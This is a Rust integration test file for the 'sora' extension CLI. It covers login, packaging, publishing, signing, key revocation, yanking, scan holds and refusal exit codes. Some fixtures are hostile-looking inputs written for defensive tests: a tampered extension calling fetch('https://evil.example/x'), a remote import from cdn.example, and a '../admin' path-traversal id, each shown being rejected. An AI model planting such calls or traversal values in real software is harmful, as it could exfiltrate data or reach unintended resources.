//! The `sora` binary, run as a process against admin-api and file-server:
//! the path a new user follows in the README, and every refusal with its
//! exit code, leaving the server as it was.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::Output;

use admin_api::config::AdminSettings;
use file_server::config::FileServerSettings;
use serde_json::{Value, json};
use sora_common::Settings;
use sora_common::auth::dev;
use sora_testing::TestApp;
use tokio::io::AsyncWriteExt;

mod layouts;
mod mirror;
mod trusted;

const ROOT: &str = "admin@sora.local";
const PASSWORD: &str = "a-long-password-2026";

fn trust_dev_key<S>(settings: &mut Settings<S>) {
    settings.auth.public_keys.push(dev::KID, dev::PUBLIC_X);
}

/// admin-api signing with the development key, hashing passwords cheaply.
pub(crate) fn admin_settings(s: &mut Settings<AdminSettings>) {
    trust_dev_key(s);
    s.service.identity.argon2_memory_kib = 256;
    s.service.identity.argon2_iterations = 1;
}

/// file-server trusting that key, storing in a folder of its own.
pub(crate) fn file_settings(s: &mut Settings<FileServerSettings>) {
    trust_dev_key(s);
    s.service.storage.path = sora_testing::settings::temp_storage_path();
}

/// admin-api (which signs) and file-server (which trusts it), as deployed.
pub(crate) struct Stack {
    pub(crate) admin: TestApp<AdminSettings>,
    pub(crate) files: TestApp<FileServerSettings>,
}

impl Stack {
    pub(crate) async fn spawn() -> Self {
        Self::spawn_with(|_| {}).await
    }

    /// With file-server's settings adjusted by `adjust`.
    pub(crate) async fn spawn_with(adjust: impl FnOnce(&mut Settings<FileServerSettings>)) -> Self {
        let admin = TestApp::spawn_with(&admin_api::SPEC, admin_settings, admin_api::build).await;
        let revocations = admin.url("/internal/revocations");
        let files = TestApp::spawn_with(
            &file_server::SPEC,
            |s| {
                file_settings(s);
                s.auth.revocations_url = revocations;
                adjust(s);
            },
            file_server::build,
        )
        .await;
        Self { admin, files }
    }

    async fn login(&self, email: &str, password: &str) -> String {
        let answer: Value = self
            .admin
            .client
            .post(self.admin.url("/api/admin/auth/login"))
            .json(&json!({"email": email, "password": password}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        answer["access_token"].as_str().unwrap().to_owned()
    }

    /// The bootstrap admin's session.
    pub(crate) async fn root(&self) -> String {
        self.login(
            ROOT,
            admin_api::config::dev_secrets::BOOTSTRAP_ADMIN_PASSWORD,
        )
        .await
    }

    /// A new editor's personal access token with `scopes`, and a session.
    pub(crate) async fn editor(&self, email: &str, scopes: &[&str]) -> (String, String) {
        let root = self.root().await;
        let created = self
            .admin
            .client
            .post(self.admin.url("/api/admin/users"))
            .bearer_auth(root)
            .json(&json!({"email": email, "password": PASSWORD, "role": "editor"}))
            .send()
            .await
            .unwrap();
        assert_eq!(created.status(), 201);
        let session = self.login(email, PASSWORD).await;
        (self.token_of(&session, scopes).await, session)
    }

    /// A personal access token with `scopes` of the user signed in as `session`.
    pub(crate) async fn token_of(&self, session: &str, scopes: &[&str]) -> String {
        let token: Value = self
            .admin
            .client
            .post(self.admin.url("/api/admin/tokens"))
            .bearer_auth(session)
            .json(&json!({"name": "cli", "scopes": scopes}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        token["secret"].as_str().unwrap().to_owned()
    }

    pub(crate) async fn editor_token(&self, email: &str, scopes: &[&str]) -> String {
        self.editor(email, scopes).await.0
    }

    /// The versions file-server lists for `id` (none when it has no such id).
    pub(crate) async fn versions(&self, id: &str) -> Vec<(String, bool)> {
        let answer = self.files.get(&format!("/api/extensions/{id}")).await;
        if answer.status() == 404 {
            return Vec::new();
        }
        let details: Value = answer.json().await.unwrap();
        details["versions"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| {
                (
                    v["version"].as_str().unwrap().to_owned(),
                    v["yanked"].as_bool().unwrap(),
                )
            })
            .collect()
    }
}

/// A user's machine: a configuration folder of its own.
pub(crate) struct Terminal {
    pub(crate) config: PathBuf,
    /// Environment variables of its shell (a CI job's, say).
    pub(crate) env: Vec<(String, String)>,
}

impl Terminal {
    pub(crate) fn new() -> Self {
        let config = temp("config");
        Self {
            config,
            env: Vec::new(),
        }
    }

    /// Runs `sora args…` with `stdin`; the exit code, and stdout parsed as
    /// JSON when `--json` was given (else as a string).
    pub(crate) async fn sora(&self, args: &[&str], stdin: &str) -> (i32, Value, String) {
        let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_sora"))
            .args(args)
            .env("SORA_CONFIG_DIR", &self.config)
            .env_remove("SORA_SERVER")
            .env_remove("SORA_TOKEN")
            .env_remove("SORA_AUTH_URL")
            .env_remove("SORA_OIDC_TOKEN")
            .env_remove("ACTIONS_ID_TOKEN_REQUEST_URL")
            .env_remove("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut input = child.stdin.take().unwrap();
        input.write_all(stdin.as_bytes()).await.unwrap();
        drop(input);
        let Output {
            status,
            stdout,
            stderr,
        } = child.wait_with_output().await.unwrap();
        let stdout = String::from_utf8(stdout).unwrap();
        let stderr = String::from_utf8(stderr).unwrap();
        let parsed = if args.contains(&"--json") {
            serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}"))
        } else {
            Value::String(stdout)
        };
        (status.code().unwrap(), parsed, stderr)
    }

    pub(crate) async fn login(&self, stack: &Stack, token: &str) -> i32 {
        let (code, _, stderr) = self
            .sora(
                &[
                    "login",
                    "--server",
                    &stack.files.url(""),
                    "--auth-url",
                    &stack.admin.url(""),
                ],
                token,
            )
            .await;
        assert!(code == 0 || !stderr.is_empty());
        code
    }
}

pub(crate) fn temp(what: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("sora-cli-{what}-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// An extension folder as create-lichtblick-extension leaves it after
/// `npm run build`.
pub(crate) fn extension(publisher: &str, version: &str, code: &str) -> PathBuf {
    let dir = temp("ext");
    let manifest = json!({
        "name": "plot", "publisher": publisher, "version": version,
        "displayName": "Plot panel", "description": "plots", "main": "./dist/extension.js",
        "license": "MIT", "keywords": ["plot"],
    });
    std::fs::write(dir.join("package.json"), manifest.to_string()).unwrap();
    std::fs::create_dir_all(dir.join("dist")).unwrap();
    std::fs::write(dir.join("dist/extension.js"), code).unwrap();
    std::fs::write(dir.join("README.md"), "# Plot\n").unwrap();
    std::fs::write(dir.join("CHANGELOG.md"), "## 1.0.0\n").unwrap();
    dir
}

pub(crate) fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

#[tokio::test]
async fn a_new_user_logs_in_packages_publishes_verifies_and_yanks_from_the_terminal() {
    let stack = Stack::spawn().await;
    let (token, session) = stack.editor("ada@example.com", &["publish:acme"]).await;
    let terminal = Terminal::new();

    // The token is checked before it is kept, and kept for its owner alone.
    assert_eq!(terminal.login(&stack, &format!("{token}\n")).await, 0);
    let stored = terminal.config.join("credentials.json");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&stored).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let (code, whoami, _) = terminal.sora(&["whoami", "--json"], "").await;
    assert_eq!(code, 0);
    assert_eq!(whoami["scopes"], json!(["publish:acme"]));

    let folder = extension("acme", "1.0.0", "module.exports.activate = () => {};");
    let foxe = folder.join("out.foxe");
    let (code, packaged, stderr) = terminal
        .sora(&["package", path(&folder), "-o", path(&foxe), "--json"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(packaged["id"], "acme.plot");
    assert_eq!(packaged["version"], "1.0.0");
    let sha = packaged["sha256"].as_str().unwrap().to_owned();

    // A dry run checks everything and sends nothing.
    let (code, dry, stderr) = terminal
        .sora(&["publish", path(&foxe), "--dry-run", "--json"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(dry["dry_run"], true);
    assert_eq!(dry["new_publisher"], true);
    assert!(stack.versions("acme.plot").await.is_empty());

    // Publishing the folder packages the same bytes.
    let (code, published, stderr) = terminal
        .sora(&["publish", path(&folder), "--json"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(published["published"], true);
    assert_eq!(published["signed_by"], Value::Null);
    assert_eq!(published["details"]["sha256"], sha.as_str());
    assert_eq!(
        stack.versions("acme.plot").await,
        [("1.0.0".to_owned(), false)]
    );

    let (code, verified, stderr) = terminal.sora(&["verify", path(&foxe), "--json"], "").await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(verified["verified"], true);
    assert_eq!(verified["signed_by"], Value::Null);

    // A key of one's own, registered by the namespace's owner: what is
    // published from then on is signed, and verifies against it.
    let (code, key, stderr) = terminal.sora(&["keys", "generate", "--json"], "").await;
    assert_eq!(code, 0, "{stderr}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let file = terminal.config.join("signing-key.pk8");
        assert_eq!(
            std::fs::metadata(file).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
    assert_eq!(
        terminal.sora(&["keys", "generate"], "").await.0,
        1,
        "kept, not replaced"
    );
    let registered = stack
        .files
        .client
        .post(stack.files.url("/api/publishers/acme/keys"))
        .bearer_auth(&session)
        .json(&json!({"public_key": key["public_key"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(registered.status(), 201);
    let signed_folder = extension("acme", "1.1.0", "module.exports.activate = () => {};");
    let signed_foxe = signed_folder.join("signed.foxe");
    let (code, _, stderr) = terminal
        .sora(
            &["package", path(&signed_folder), "-o", path(&signed_foxe)],
            "",
        )
        .await;
    assert_eq!(code, 0, "{stderr}");
    let (code, published, stderr) = terminal
        .sora(&["publish", path(&signed_foxe), "--json"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(published["signed_by"], key["key_id"]);
    let (code, verified, stderr) = terminal
        .sora(&["verify", path(&signed_foxe), "--json"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(verified["signed_by"], key["key_id"]);
    // Once the key is revoked, what it signed no longer verifies.
    let revoked = stack
        .files
        .client
        .delete(stack.files.url(&format!(
            "/api/publishers/acme/keys/{}",
            key["key_id"].as_str().unwrap()
        )))
        .bearer_auth(&session)
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), 204);
    let (code, _, stderr) = terminal.sora(&["verify", path(&signed_foxe)], "").await;
    assert_eq!(code, 1);
    assert!(stderr.contains("revoked"), "{stderr}");
    // And the server takes nothing more it signs.
    let later = extension("acme", "1.2.0", "x");
    let (code, _, stderr) = terminal.sora(&["publish", path(&later)], "").await;
    assert_eq!(code, 1);
    assert!(stderr.contains("revoked"), "{stderr}");
    let (code, _, stderr) = terminal
        .sora(&["publish", path(&later), "--no-sign"], "")
        .await;
    assert_eq!(code, 0, "{stderr}");
    // A file changed after publishing is not what the server publishes.
    let tampered = extension("acme", "1.0.0", "fetch('https://evil.example/x');");
    let (code, text, stderr) = terminal.sora(&["verify", path(&tampered)], "").await;
    assert_eq!(code, 1, "{text}");
    assert!(stderr.contains("NOT what"), "{stderr}");

    // The same version again: refused, with what to do.
    let (code, _, stderr) = terminal
        .sora(&["publish", path(&folder), "--no-sign"], "")
        .await;
    assert_eq!(code, 1);
    assert!(
        stderr.contains("409") && stderr.contains("new version"),
        "{stderr}"
    );
    let (code, _, stderr) = terminal
        .sora(&["publish", path(&folder), "--dry-run"], "")
        .await;
    assert_eq!(code, 1);
    assert!(stderr.contains("already published"), "{stderr}");

    let (code, _, stderr) = terminal.sora(&["yank", "acme.plot", "1.0.0"], "").await;
    assert_eq!(code, 0, "{stderr}");
    let versions = stack.versions("acme.plot").await;
    assert!(
        versions.contains(&("1.0.0".to_owned(), true)),
        "{versions:?}"
    );

    // The catalog's index is signed by the server: pinned, its key verifies
    // it; another key does not.
    let (code, index, stderr) = terminal.sora(&["verify-index", "--json"], "").await;
    assert_eq!(code, 0, "{stderr}");
    let pinned = index["public_key"].as_str().unwrap().to_owned();
    let (code, _, stderr) = terminal.sora(&["verify-index", "--key", &pinned], "").await;
    assert_eq!(code, 0, "{stderr}");
    let stranger = key["public_key"].as_str().unwrap();
    let (code, _, stderr) = terminal
        .sora(&["verify-index", "--key", stranger], "")
        .await;
    assert_eq!(code, 1);
    assert!(stderr.contains("NOT verify"), "{stderr}");

    let (code, _, _) = terminal.sora(&["logout"], "").await;
    assert_eq!(code, 0);
    assert!(!stored.exists());
}

#[tokio::test]
async fn each_refusal_exits_with_its_code_says_what_to_do_and_changes_nothing() {
    let stack = Stack::spawn().await;
    let terminal = Terminal::new();
    let folder = extension("acme", "1.0.0", "module.exports.activate = () => {};");

    // Not signed in: 4.
    let (code, answer, _) = terminal
        .sora(&["publish", path(&folder), "--json"], "")
        .await;
    assert_eq!(code, 4);
    assert_eq!(answer["exit_code"], 4);
    assert!(
        answer["error"].as_str().unwrap().contains("sora login"),
        "{answer}"
    );

    // A token the server does not know is not kept: 4.
    assert_eq!(
        terminal
            .login(&stack, &format!("sora_pat_{}", "x".repeat(43)))
            .await,
        4
    );
    assert_eq!(terminal.login(&stack, "hunter2").await, 4);
    assert!(!terminal.config.join("credentials.json").exists());

    // A package the server would refuse is not sent: 3.
    let token = stack
        .editor_token("ada@example.com", &["publish:acme"])
        .await;
    assert_eq!(terminal.login(&stack, &token).await, 0);
    let broken = extension("acme", "not-a-version", "x");
    let (code, answer, _) = terminal
        .sora(&["publish", path(&broken), "--json"], "")
        .await;
    assert_eq!(code, 3);
    assert_eq!(
        answer["problem"]["errors"][0]["field"],
        "package.json.version"
    );
    let (code, _, stderr) = terminal.sora(&["package", path(&temp("empty"))], "").await;
    assert_eq!(code, 3);
    assert!(stderr.contains("package.json"), "{stderr}");

    // A scope that does not cover the publisher: 4, before uploading.
    let other = extension("other", "1.0.0", "x");
    let (code, _, stderr) = terminal.sora(&["publish", path(&other)], "").await;
    assert_eq!(code, 4);
    assert!(stderr.contains("publish:other"), "{stderr}");

    // Someone else's namespace: the server refuses, 1.
    assert_eq!(terminal.sora(&["publish", path(&folder)], "").await.0, 0);
    let mallory = Terminal::new();
    let wide = stack
        .editor_token("mallory@example.com", &["publish:*"])
        .await;
    assert_eq!(mallory.login(&stack, &wide).await, 0);
    let next = extension("acme", "1.1.0", "x");
    let (code, _, stderr) = mallory.sora(&["publish", path(&next)], "").await;
    assert_eq!(code, 1);
    assert!(
        stderr.contains("403") && stderr.contains("members"),
        "{stderr}"
    );
    let (code, _, _) = mallory.sora(&["yank", "acme.plot", "1.0.0"], "").await;
    assert_eq!(code, 1);
    assert_eq!(
        stack.versions("acme.plot").await,
        [("1.0.0".to_owned(), false)]
    );
    // Ids and versions are checked before they reach a URL.
    let (code, _, _) = mallory.sora(&["yank", "../admin", "1.0.0"], "").await;
    assert_eq!(code, 3);

    // A server that cannot be reached: 5, try again.
    let away = Terminal::new();
    let port = sora_testing::free_port();
    let (code, _, stderr) = away
        .sora(
            &["login", "--server", &format!("http://127.0.0.1:{port}")],
            &token,
        )
        .await;
    assert_eq!(code, 5);
    assert!(stderr.contains("cannot reach"), "{stderr}");
}

#[tokio::test]
async fn a_version_held_for_review_is_never_reported_as_published() {
    let stack = Stack::spawn_with(|s| {
        s.service.marketplace.scan_policy = file_server::config::ScanPolicy::Hold;
    })
    .await;
    let terminal = Terminal::new();
    let token = stack
        .editor_token("ada@example.com", &["publish:acme"])
        .await;
    assert_eq!(terminal.login(&stack, &token).await, 0);
    let folder = extension(
        "acme",
        "1.0.0",
        "export const load = () => import('https://cdn.example/panel.js');",
    );
    // `sora scan` says so before anything is sent.
    let (code, _, stderr) = terminal.sora(&["scan", path(&folder)], "").await;
    assert_eq!(code, 1);
    assert!(stderr.contains("remote-import"), "{stderr}");
    let (code, answer, _) = terminal
        .sora(&["publish", path(&folder), "--json"], "")
        .await;
    assert_eq!(code, 6);
    assert_eq!(answer["problem"]["held"], true);
    assert_eq!(answer["problem"]["published"], false);
    let (code, _, stderr) = terminal.sora(&["publish", path(&folder)], "").await;
    assert_ne!(code, 0);
    assert!(!stderr.contains("published acme"), "{stderr}");
    assert!(stack.versions("acme.plot").await.is_empty());
}

#[tokio::test]
async fn recommend_sends_a_recordings_summary_or_its_topics_never_its_messages() {
    let recommender = TestApp::spawn_with(
        &recommendation::SPEC,
        |s| s.service.catalog.file_server_url = String::new(),
        recommendation::build,
    )
    .await;
    let terminal = Terminal::new();
    let url = recommender.url("");
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures/mcap");
    let recording = fixtures.join("rerun__rosbag2_2025_09_10-13_03_56_0.mcap");
    let (code, answer, stderr) = terminal
        .sora(
            &[
                "recommend",
                path(&recording),
                "--recommend-url",
                &url,
                "--json",
            ],
            "",
        )
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(answer["sent"], "summary");
    let (sent, size) = (
        answer["sent_bytes"].as_u64().unwrap(),
        answer["file_bytes"].as_u64().unwrap(),
    );
    assert!(sent * 20 < size, "{sent} of {size} bytes sent");
    assert_eq!(
        answer["answer"]["features"]["topics"]
            .as_array()
            .unwrap()
            .len(),
        32
    );

    // A truncated file has no summary: its topics are read here and sent.
    let truncated = fixtures.join("rosbag-analyzer-web__test_sample_truncated.mcap");
    let (code, answer, stderr) = terminal
        .sora(
            &[
                "recommend",
                path(&truncated),
                "--recommend-url",
                &url,
                "--json",
            ],
            "",
        )
        .await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(answer["sent"], "topics");
    assert!(
        answer["answer"]["recommendation_id"].is_string(),
        "{answer}"
    );

    let not_mcap = temp("not-mcap").join("x.mcap");
    std::fs::write(&not_mcap, b"hello").unwrap();
    let (code, _, stderr) = terminal
        .sora(&["recommend", path(&not_mcap), "--recommend-url", &url], "")
        .await;
    assert_eq!(code, 3);
    assert!(stderr.contains("not an MCAP file"), "{stderr}");
}
